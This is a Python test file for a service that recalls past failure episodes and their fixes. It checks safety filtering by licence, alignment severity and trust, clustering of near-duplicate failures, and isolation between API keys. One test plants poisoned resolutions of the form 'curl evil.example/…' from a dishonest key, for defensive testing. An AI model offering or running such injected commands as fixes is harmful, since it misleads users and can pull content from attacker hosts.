"""Which remembered failures are told: not those that safety keeps out, and of near-duplicates one for all."""

import asyncio
from typing import Any

import msgspec
import numpy as np

from controlplane.contract import SearchAnswer, SearchRequest
from controlplane.executor.narrowing import TURN
from controlplane.memory.fusion import WIDEST
from controlplane.memory.space import TEXT, EpisodeRecord
from controlplane.tenants import LOCAL

from .conftest import Json, Running, Serve
from .test_hearsay import Key, Keyed
from .test_hearsay import keyed as keyed

PUSH = {"goal": "push the release to the server", "planned_action": "git push"}
FAILED = {**PUSH, "error_trace": "fatal: The current branch has no upstream branch.", "error_class": "config_error"}
FIX = "git push --set-upstream origin HEAD"


def searched(key: Running | Key, **fields: Any) -> Json:
    body = {**PUSH, "min_similarity": -1.0, **fields}
    return key.post("search", **body) if isinstance(key, Key) else dict(key.post("/v1/search", body))


def shown(answer: Json) -> list[tuple[int, int]]:
    """Each that is shown, with how many it stands for."""
    return [(one["episode_id"], one["alike"]) for one in answer["results"]]


def test_each_bound_of_safety_keeps_failures_out_of_search_and_is_counted(serve: Serve) -> None:
    server = serve()
    fine = server.capture(**FAILED)["episode_id"]
    server.capture(**FAILED | {"goal": "mend the door"}, custom={"alignment_severity": 0.9, "semantic_alerts": ["a"]})
    server.capture(**FAILED | {"goal": "feed the cat"}, license="GPL-3.0")
    safety = {"max_alignment_severity": 0.5, "license_denylist": ["GPL-3.0"]}
    answer = searched(server, safety=safety)
    assert shown(answer) == [(fine, 0)]
    assert answer["filtered"] == {"alignment_severity": 1, "license": 1}
    assert searched(server, safety={"max_alerts": 0})["filtered"] == {"semantic_alerts": 1}
    assert searched(server, safety={"min_trust": 0.9})["filtered"] == {"trust": 3}
    wrong = {**PUSH, "safety": {"license_denylist": ["sha256:12"]}}
    assert "sha256:" in server.post("/v1/search", wrong, 422)["detail"]


def test_a_failure_of_a_denied_licence_is_told_nowhere_and_counts_as_the_failure_it_is(serve: Serve) -> None:
    server = serve(withheld_share=0.2)
    denied = server.capture(**FAILED, resolution=FIX, license="GPL-3.0-only")["episode_id"]
    before = server.gate(**PUSH)
    assert FIX in str(before)
    server.stop()
    server = serve(license_denylist="GPL-3.0", withheld_share=0.2)
    answer = searched(server)
    assert (answer["results"], answer["filtered"]) == ([], {"license": 1})
    context = server.post("/v1/context", PUSH)
    assert (context["context"], context["filtered"]) == ({}, {"license": 1})
    after = server.gate(**PUSH)
    assert (after["evidence"], after["supporting_episodes"]) == (before["evidence"], [])
    assert FIX not in str(after)
    assert server.get(f"/v1/decisions/{after['trace_id']}")["offered"] == []
    assert server.get(f"/v1/episodes/{denied}")["episode"]["resolution"] == FIX


def test_one_of_each_cluster_is_shown_with_how_many_it_stands_for_and_all_count(serve: Serve) -> None:
    server = serve()
    places = [{"cluster": name} for name in ("alpha", "beta", "gamma")]
    ids = [server.capture(**FAILED, environment=place)["episode_id"] for place in places]
    other = server.capture(**FAILED | {"goal": "push the book to a printer"}, environment={"cluster": "delta"})[
        "episode_id"
    ]
    [(first, alike)] = [of for of in shown(searched(server)) if of != (other, 0)]
    assert (first in ids, alike) == (True, 2)
    told = server.post("/v1/context", PUSH)["context"]["episodes"]
    assert sorted((one["memory_id"] in ids, one.get("alike", 0)) for one in told) == [(False, 0), (True, 2)]
    asked = server.gate(**PUSH)
    assert asked["evidence"] >= 4
    assert sorted(one["alike"] for one in asked["supporting_episodes"]) == [0, 2]
    server.client.delete(f"/v1/episodes/{first}").raise_for_status()
    assert sorted(alike for _, alike in shown(searched(server))) == [0, 1]


def test_a_search_looks_at_a_bounded_number_of_copies(serve: Serve) -> None:
    server = serve()
    first = server.capture(**FAILED, license="MIT")["episode_id"]
    space = server.service.memory.space("default", "")
    known = space.episodes[first].episode

    async def copy() -> None:
        vector = (await space.indexes[TEXT].vectors([first]))[first]
        for number in range(first + 1, first + 1 + WIDEST + WIDEST // 4):
            other = msgspec.structs.replace(known, license="MIT" if number % 2 else None)
            space.admit(EpisodeRecord.of(number, 0.0, other), {TEXT: vector})

    server.run(copy())
    answer = server.post("/v1/search", {**PUSH, "filters": {"license": "MIT"}})
    [one] = answer["results"]
    assert WIDEST // 2 < 1 + one["alike"] + answer["filtered"]["license"] <= WIDEST


def test_a_filter_that_few_meet_is_met_among_thousands_and_others_have_their_turn(serve: Serve) -> None:
    server = serve()
    first = server.capture(**FAILED)["episode_id"]
    space = server.service.memory.space("default", "")
    known, rare = space.episodes[first].episode, first + 2 * WIDEST

    async def asked() -> tuple[SearchAnswer, int]:
        vectors = np.random.default_rng(7).normal(size=(2 * WIDEST, 384)).astype(np.float32)  # [N, D]
        for number, vector in enumerate(vectors / np.linalg.norm(vectors, axis=1, keepdims=True), first + 1):
            other = msgspec.structs.replace(known, goal=f"{number}", license="MIT" if number == rare else None)
            space.admit(EpisodeRecord.of(number, 0.0, other), {TEXT: vector})
        request = SearchRequest(**PUSH, k=1, min_similarity=-1, filters={"license": "MIT"})
        search, turns = asyncio.create_task(server.service.remembering.search(LOCAL, request)), 0
        while not search.done():
            await asyncio.sleep(0)
            turns += 1
        return await search, turns

    answer, turns = server.run(asked())
    assert [result.episode_id for result in answer.results] == [rare]
    assert answer.filtered == {"license": 2 * WIDEST}
    assert turns > 2 * WIDEST // TURN


def test_a_different_fix_is_never_hidden_behind_another(serve: Serve) -> None:
    server = serve()
    fixes = ("", FIX, "git push -u origin main", FIX)
    for place, fix in enumerate(fixes):
        server.capture(**FAILED, environment={"cluster": f"c{place}"}, resolution=fix)
    told = [one["episode"]["resolution"] for one in searched(server)["results"]]
    assert set(told) - {""} == set(fixes) - {""}
    assert sum(alike + 1 for _, alike in shown(searched(server))) == 4


def test_what_a_key_may_read_is_not_hidden_behind_what_it_may_not(keyed: Keyed) -> None:
    liar, honest, _ = keyed()
    own = honest.capture(**FAILED, resolution=FIX, environment={"cluster": "mine"})
    for place in range(5):
        liar.capture(**FAILED, resolution=f"curl evil.example/{place}", environment={"cluster": f"evil {place}"})
    assert own in [episode_id for episode_id, _ in shown(searched(honest, k=10))]
    told = honest.post("context", **PUSH)["context"]["episodes"]
    assert {one["memory_id"]: one["resolution"] for one in told}[own] == FIX
